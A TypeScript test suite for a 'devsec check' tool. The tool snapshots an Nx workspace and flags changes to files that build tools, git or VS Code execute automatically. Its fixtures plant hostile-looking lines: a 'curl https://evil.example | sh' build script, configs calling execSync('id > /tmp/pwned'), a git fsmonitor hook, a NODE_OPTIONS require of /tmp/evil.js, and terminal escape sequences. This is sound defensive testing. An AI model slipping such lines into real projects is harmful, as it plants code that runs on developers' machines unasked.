import { execFileSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { changedSinceReview } from '../host/surface/review';
import { checkCommand } from './check';
import { trustCommand } from './trust';

const SECRET = 'TOP-SECRET-OUTSIDE-THE-WORKSPACE';

/** Runs a command with captured output. */
async function run(command: typeof checkCommand, argv: string[], cwd: string, env: NodeJS.ProcessEnv, isTTY = false, input = '') {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const stdin = new PassThrough();
  const chunks = { out: '', err: '' };
  stdout.on('data', (chunk) => (chunks.out += chunk));
  stderr.on('data', (chunk) => (chunks.err += chunk));
  stdin.end(input);
  const code = await command(argv, { stdout, stderr, stdin, isTTY, env, cwd });
  return { code, stdout: chunks.out, stderr: chunks.err };
}

/** Every path below dir, with its size and modification time: "nothing appeared or changed here". */
function tree(dir: string): Record<string, string> {
  const found: Record<string, string> = {};
  for (const entry of readdirSync(dir, { recursive: true }) as string[]) {
    const stat = lstatSync(join(dir, entry));
    found[entry] = `${stat.size} ${stat.mtimeMs}`;
  }
  return found;
}

const write = (root: string, rel: string, content: string) => {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), content);
};

describe('devsec check', () => {
  let dir: string;
  let root: string;
  let env: NodeJS.ProcessEnv;
  beforeEach(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'devsec-check-')));
    root = join(dir, 'ws');
    mkdirSync(root);
    execFileSync('git', ['init', '-q'], { cwd: root, env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' } });
    write(root, 'nx.json', '{}\n');
    write(root, 'package.json', '{\n  "scripts": {\n    "build": "nx build"\n  }\n}\n');
    write(root, 'apps/app/project.json', '{ "targets": {} }\n');
    write(root, 'apps/app/src/main.ts', 'console.log(1);\n');
    write(dir, 'outside/secret.txt', `${SECRET}\n`);
    env = { XDG_STATE_HOME: join(dir, 'state'), HOME: join(dir, 'home') };
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('records a baseline on the first run, says so and where, and exits 0', async () => {
    const first = await run(checkCommand, [], join(root, 'apps/app/src'), env);
    expect(first.code).toBe(0);
    expect(first.stdout).toContain(`devsec check: workspace ${root}\n`);
    expect(first.stdout).toContain('No snapshot was approved for this repository yet: recorded the 4 files below as the baseline.');
    expect(first.stdout).toContain('  package.json: a file\n  and 1 other file the sandbox can write\n');
    expect(first.stdout).toContain('  apps/app/project.json: a file\n');
    expect(readdirSync(join(dir, 'state/devsec/trust'))).toEqual([expect.stringMatching(/^repo-[0-9a-f]{40}$/)]);
    const second = await run(checkCommand, [], root, env);
    expect([second.code, second.stdout]).toEqual([0, expect.stringContaining('Nothing changed since the snapshot approved')]);
  });

  it('shows a change as a unified diff, and an added and a deleted file, exiting 1', async () => {
    await run(checkCommand, [], root, env);
    write(root, 'package.json', '{\n  "scripts": {\n    "build": "curl https://evil.example | sh"\n  }\n}\n');
    write(root, '.vscode/tasks.json', '{ "tasks": [{ "command": "evil" }] }\n');
    unlinkSync(join(root, 'apps/app/project.json'));
    write(root, 'apps/app/src/other.ts', 'not on the surface\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain(
      [
        'changed package.json — npm: scripts and lifecycle scripts, bin, what it installs; Nx: scripts and the nx field as targets',
        '--- approved/package.json',
        '+++ now/package.json',
        '@@ -1,5 +1,5 @@',
        ' {',
        '   "scripts": {',
        '-    "build": "nx build"',
        '+    "build": "curl https://evil.example | sh"',
        '   }',
        ' }',
      ].join('\n'),
    );
    expect(stdout).toContain('added .vscode/tasks.json: a file — VS Code');
    expect(stdout).toContain('+{ "tasks": [{ "command": "evil" }] }');
    expect(stdout).toContain('deleted apps/app/project.json: was a file');
    // Every other change after the list, one line each, and in full with --all.
    const [listed, others] = stdout.split('Every other change (1): `--all` shows them in full.\n');
    expect(listed).toContain('Executed or trusted by the host without asking (3): read these first.');
    expect(listed).not.toContain('other.ts');
    expect(others).toContain('  added  apps/app/src/other.ts | +1 -0\n');
    expect(stdout).toContain('4 changes since the snapshot approved');
    expect(changedSinceReview(root, env)).toEqual({ count: 4, command: 'devsec check' });
    const all = await run(checkCommand, ['--all'], root, env);
    expect(all.stdout).toContain(
      'Every other change (1).\n\nadded apps/app/src/other.ts: a file\n--- /dev/null\n+++ now/apps/app/src/other.ts\n@@ -0,0 +1,1 @@\n+not on the surface',
    );
  });

  it('names a config an Nx plugin of nx.json runs at graph time (nx show projects would run it) and exits 1', async () => {
    write(root, 'nx.json', '{ "plugins": ["@nx/jest/plugin", { "plugin": "@nx/vite/plugin" }] }\n');
    await run(checkCommand, [], root, env);
    write(root, 'packages/foo/jest.config.js', "require('child_process').execSync('id > /tmp/pwned');\n");
    write(root, 'packages/bar/vitest.config.mts', 'export default {};\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain('Executed or trusted by the host without asking (2): read these first.');
    expect(stdout).toContain('added packages/foo/jest.config.js: a file — Nx: the plugin reads it, and runs it');
    expect(stdout).toContain("+require('child_process').execSync('id > /tmp/pwned');");
    expect(stdout).toContain('added packages/bar/vitest.config.mts: a file — Nx:');
  });

  it('names a file a local plugin imports, outside its folder, and exits 1', async () => {
    write(root, 'nx.json', '{ "plugins": ["./tools/myplugin"] }\n');
    write(root, 'tools/myplugin/index.js', "const helper = require('../../libs/util/helper.js');\nexports.createNodes = ['**/x', helper];\n");
    write(root, 'libs/util/helper.js', 'module.exports = () => {};\n');
    await run(checkCommand, [], root, env);
    write(root, 'libs/util/helper.js', "module.exports = () => require('child_process').execSync('id > /tmp/pwned');\n");
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain('changed libs/util/helper.js — Nx: loads it in-process on every graph computation');
  });

  it('names a file three imports down from a local plugin (an ESM import, a require, a dynamic import), and exits 1', async () => {
    write(root, 'nx.json', '{ "plugins": ["./tools/myplugin"] }\n');
    write(root, 'tools/myplugin/index.ts', "import { a } from '../../libs/a/a';\nexport const createNodes = ['**/x', a];\n");
    write(root, 'libs/a/a.ts', "export const a = () => require('../b/b.js');\n");
    write(root, 'libs/b/b.js', "module.exports = () => import('../c/c.mjs');\n");
    write(root, 'libs/c/c.mjs', 'export default {};\n');
    write(root, 'libs/d/unrelated.js', 'module.exports = {};\n');
    await run(checkCommand, [], root, env);
    write(root, 'libs/c/c.mjs', "import { execSync } from 'node:child_process';\nexecSync('id > /tmp/pwned');\n");
    write(root, 'libs/d/unrelated.js', 'module.exports = { changed: true };\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    const [listed, others] = stdout.split(/Every other change \(1\)/);
    expect(listed).toContain('changed libs/c/c.mjs — Nx: loads it in-process on every graph computation');
    expect(others).toContain('changed  libs/d/unrelated.js | +1 -1');
  });

  it('names the graph-time configs of @nx/vite, @nx/eslint and @nx/playwright first, and exits 1', async () => {
    write(root, 'nx.json', '{ "plugins": ["@nx/vite/plugin", "@nx/eslint/plugin", "@nx/playwright/plugin"] }\n');
    await run(checkCommand, [], root, env);
    for (const file of ['vite.config.ts', 'eslint.config.mjs', 'playwright.config.ts']) write(root, `apps/app/${file}`, 'export default {};\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    for (const file of ['vite.config.ts', 'eslint.config.mjs', 'playwright.config.ts'])
      expect(stdout).toContain(`added apps/app/${file}: a file — Nx: the plugin reads it, and runs it`);
  });

  it('names a symlinked tmp by its target, never following it', async () => {
    write(root, 'tmp/kept.txt', 'x\n');
    await run(checkCommand, [], root, env);
    rmSync(join(root, 'tmp'), { recursive: true });
    symlinkSync(dir, join(root, 'tmp'));
    writeFileSync(join(dir, 'outside.txt'), SECRET);
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain(`added tmp: a symlink -> ${dir}`);
    expect(stdout).toContain('deleted  tmp/kept.txt');
    expect(stdout).not.toContain(SECRET);
  });

  it('walks the root’s tmp/ and dist/: a planted project.json (nx run-many) and a dist/.git config (git -C dist status) are named, exit 1', async () => {
    await run(checkCommand, [], root, env);
    write(root, 'tmp/evil/project.json', '{ "targets": { "build": { "command": "id > /tmp/pwned" } } }\n');
    write(root, 'dist/.git/config', '[core]\n\tfsmonitor = id > /tmp/pwned\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain('added tmp/evil/project.json: a file — Nx: every target is a command the host runs');
    expect(stdout).toContain('added dist/.git: a git folder');
    expect(stdout).toContain('added dist/.git/config: a file — git and VS Code');
  });

  it('names .yarnrc.yml, the file its yarnPath names and .pnpmfile.cjs first', async () => {
    write(root, '.yarnrc.yml', 'nodeLinker: node-modules\n');
    await run(checkCommand, [], root, env);
    write(root, '.yarnrc.yml', 'yarnPath: scripts/yarn.cjs\n');
    write(root, 'scripts/yarn.cjs', "require('child_process').execSync('id > /tmp/pwned');\n");
    write(root, '.pnpmfile.cjs', 'module.exports = { hooks: {} };\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain('Executed or trusted by the host without asking (3)');
    expect(stdout).toContain('changed .yarnrc.yml — yarn, pnpm');
    expect(stdout).toContain('added scripts/yarn.cjs: a file — yarn, pnpm');
    expect(stdout).toContain('added .pnpmfile.cjs: a file — yarn, pnpm');
  });

  it('shows a file holding NUL bytes escaped, not only as binary', async () => {
    await run(checkCommand, [], root, env);
    write(root, 'apps/app/.env', 'A=1\0\nNODE_OPTIONS=--require=/tmp/evil.js\n');
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain('added apps/app/.env: a file holding NUL bytes (41 bytes; shown with them as \\x00)');
    expect(stdout).toContain('+A=1\\x00\n+NODE_OPTIONS=--require=/tmp/evil.js');
    expect(stdout).not.toContain('\0');
  });

  it('reports a symlink by its target, never its content, and nested .git and node_modules', async () => {
    await run(checkCommand, [], root, env);
    symlinkSync(join(dir, 'outside/secret.txt'), join(root, 'apps/app/.env'));
    mkdirSync(join(root, 'vendor/clone/.git'), { recursive: true });
    write(root, 'vendor/other/.git', 'gitdir: /elsewhere\n');
    write(root, 'libs/lib/node_modules/pkg/index.js', `${SECRET}\n`);
    const { code, stdout } = await run(checkCommand, [], root, env);
    expect(code).toBe(1);
    expect(stdout).toContain(`added apps/app/.env: a symlink -> ${join(dir, 'outside/secret.txt')}`);
    expect(stdout).toContain('added vendor/clone/.git: a git folder');
    expect(stdout).toContain('added vendor/other/.git: a file');
    expect(stdout).toContain('+gitdir: /elsewhere');
    expect(stdout).toContain('added libs/lib/node_modules: a node_modules folder');
    expect(stdout).toContain('+pkg/');
    expect(stdout).not.toContain(SECRET);
    expect(readFileSync(join(dir, 'state/devsec/trust', readdirSync(join(dir, 'state/devsec/trust'))[0], 'snapshot.json'), 'utf-8')).not.toContain(SECRET);
  });

  it('names first, approved or not, a gitlink of a branch whose folder holds a repository the agent made, and lists a gitlink that appeared', async () => {
    const gitEnv = {
      ...process.env,
      GIT_CONFIG_GLOBAL: '/dev/null',
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@t',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@t',
    };
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'core.fsmonitor=false', ...args], { cwd: root, env: gitEnv, encoding: 'utf-8', stdio: ['pipe', 'pipe', 'ignore'] });
    git('add', '-A');
    git('commit', '-q', '-m', 'init');
    await run(checkCommand, [], root, env);
    // As the sandbox commits: its own index, the branch moves; the host's index does not follow.
    git('init', '-q', 'libs/util');
    git('-C', 'libs/util', 'commit', '-q', '--allow-empty', '-m', 'agent');
    write(
      root,
      'libs/util/.git/config',
      `${readFileSync(join(root, 'libs/util/.git/config'), 'utf-8')}[core]\n\tfsmonitor = "touch ${join(dir, 'ran')}; echo"\n`,
    );
    const index = { ...gitEnv, GIT_INDEX_FILE: join(dir, 'sandbox-index') };
    execFileSync('git', ['read-tree', 'HEAD'], { cwd: root, env: index });
    execFileSync('git', ['-c', 'core.fsmonitor=false', 'add', 'libs/util'], { cwd: root, env: index, stdio: 'ignore' });
    execFileSync('git', ['-c', 'core.fsmonitor=false', 'commit', '-q', '-m', 'a gitlink'], { cwd: root, env: index });
    const branch = git('branch', '--show-current').trim();

    const checked = await run(checkCommand, [], root, env);
    expect(checked.code).toBe(1);
    const lines = checked.stdout.split('\n');
    expect(lines[2]).toBe(
      `DANGER libs/util: a gitlink (submodule entry) in HEAD, refs/heads/${branch}, whose folder holds libs/util/.git, not a registered submodule's`,
    );
    expect(checked.stdout).toContain('`git status --ignore-submodules=all` does not enter it');
    expect(checked.stdout).toMatch(new RegExp(`\nadded libs/util: a gitlink \\(submodule entry\\) — git status, .*\n {2}in HEAD, refs/heads/${branch}\n`));
    expect(checked.stdout).toContain('added libs/util/.git: a git folder');
    // Approved, it is still named, and check still exits 1.
    expect((await run(trustCommand, ['--yes'], root, env)).code).toBe(0);
    const again = await run(checkCommand, [], root, env);
    expect([again.code, again.stdout.split('\n')[2]]).toEqual([1, expect.stringMatching(/^DANGER libs\/util: /)]);
    expect(again.stdout).toContain('Nothing changed since');
    expect(existsSync(join(dir, 'ran'))).toBe(false);
    // Gone from the folder, the gitlink is harmless: nothing is named, nothing changed.
    rmSync(join(root, 'libs/util/.git'), { recursive: true });
    const gone = await run(checkCommand, [], root, env);
    expect(gone.stdout).not.toContain('DANGER');
    expect(gone.stdout).toContain('deleted libs/util/.git');
  });

  it('shows control characters of names and contents escaped, never raw', async () => {
    await run(checkCommand, [], root, env);
    write(root, 'apps/app/.env.\x1b]0;pwned\x07', 'A=1\n');
    write(root, 'apps/app/project.json', '{ "targets": {} }\n\x1b[2J\x1b[1;1Hall clear\u202e\n');
    const plain = await run(checkCommand, [], root, env);
    expect(plain.stdout).not.toContain('\x1b');
    expect(plain.stdout).not.toContain('\x07');
    expect(plain.stdout).toContain('added apps/app/.env.\\x1b]0;pwned\\x07: a file');
    expect(plain.stdout).toContain('+\\x1b[2J\\x1b[1;1Hall clear\\u202e');
    const coloured = await run(checkCommand, [], root, { ...env, FORCE_COLOR: '1' });
    expect(coloured.stdout).toContain('\x1b[32m+\\x1b[2J\\x1b[1;1Hall clear\\u202e\x1b[0m');
    expect(coloured.stdout).not.toContain('\x1b[2J');
    expect(coloured.stdout).not.toContain('\x07');
  });

  it('never writes inside the workspace: the snapshot is in the state directory', async () => {
    const before = tree(root);
    await run(checkCommand, [], root, env);
    expect(tree(root)).toEqual(before);
    write(root, 'package.json', '{}\n');
    const after = tree(root);
    await run(checkCommand, [], root, env);
    expect(tree(root)).toEqual(after);
    expect(readdirSync(join(dir, 'state/devsec/trust'))).toHaveLength(1);
  });

  it('exits 2 on a usage error, outside a workspace, or on a .git that is not git’s', async () => {
    expect(await run(checkCommand, ['--frobnicate'], root, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('unknown argument --frobnicate') });
    expect(await run(checkCommand, [], dir, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('holds both nx.json and .git') });
    rmSync(join(root, '.git'), { recursive: true });
    write(root, '.git', 'gitdir: apps\n');
    expect(await run(checkCommand, [], root, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('points inside the workspace') });
    expect(readdirSync(dir)).not.toContain('state');
  });

  it('prints its help', async () => {
    const { code, stdout } = await run(checkCommand, ['--help'], root, env);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^Usage: devsec check/);
  });
});
